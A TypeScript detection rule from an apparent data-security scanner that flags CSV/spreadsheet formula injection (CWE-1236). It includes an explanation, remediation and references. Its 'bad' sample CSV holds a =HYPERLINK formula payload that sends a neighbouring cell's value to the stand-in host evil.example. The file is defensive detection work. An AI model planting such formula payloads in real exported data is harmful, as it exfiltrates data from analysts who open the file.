import type { SignalRule } from './signal-rule.js';

export const signalFormulaInjection: SignalRule = {
  id: 'data.signal.formula-injection',
  signal: 'formulaPrefix',
  title: "Values start a spreadsheet formula (CSV injection)",
  category: 'data',
  severity: 'medium',
  confidence: 'high',
  cwe: ['CWE-1236'],
  what: "Counts text values that start with = + - @, a tab or a carriage return, or their full-width forms (＝ ＋ － ＠), other than plain signed numbers.",
  why: "A data set exported to CSV or Excel turns these cells into formulas when an analyst opens it: =HYPERLINK and DDE payloads exfiltrate neighbouring cells or run commands on the analyst's machine.",
  remediation: "Reject such values at ingestion, or neutralise them on export by prefixing a single quote and quoting the cell.",
  bad: [{ file: 'data.csv', code: "name,comment\nann,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\nbob,fine\n" }],
  good: [{ file: 'data.csv', code: "name,comment\nann,-5\nbob,fine\n" }],
  references: ['https://owasp.org/www-community/attacks/CSV_Injection', 'https://cwe.mitre.org/data/definitions/1236.html'],
};
